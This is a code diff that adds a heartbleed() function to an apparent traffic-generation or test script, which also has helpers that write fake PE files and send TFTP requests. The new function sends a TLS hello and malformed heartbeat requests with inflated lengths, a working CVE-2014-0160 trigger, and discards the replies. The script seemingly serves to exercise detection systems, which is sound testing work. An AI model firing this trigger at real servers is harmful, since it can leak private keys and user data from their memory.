@@ -139,6 +139,25 @@ def exe(path):
         f.write(head + b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 3, 0x66000000, 0, 0, 240, 0x22) + struct.pack("<H", 0x20b) + os.urandom(300000))
 
 
+def heartbleed(address, port):
+    """A hello that offers heartbeats, and one that says it is longer than it is (CVE-2014-0160), whatever the answer."""
+    c = socket.create_connection((address, int(port)))
+    c.settimeout(3)
+    suites = bytes.fromhex("c02fc030c013c014009c009d002f0035000a00ff")
+    more = bytes.fromhex("000b000403000102000a000a0008001700180019000d000a00080401050106010201" "000f000101")
+    hello = b"\x03\x03" + os.urandom(32) + b"\0" + struct.pack(">H", len(suites)) + suites + b"\1\0" + struct.pack(">H", len(more)) + more
+    shake = b"\1" + struct.pack(">I", len(hello))[1:] + hello
+    c.sendall(b"\x16\x03\x01" + struct.pack(">H", len(shake)) + shake)
+    try:
+        c.recv(8192)
+        for _ in range(3):
+            c.sendall(b"\x18\x03\x03\0\x03\x01\x40\x00")
+            time.sleep(.3)
+        c.recv(8192)
+    except OSError:
+        pass
+
+
 def tftp(address, name):
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.settimeout(3)
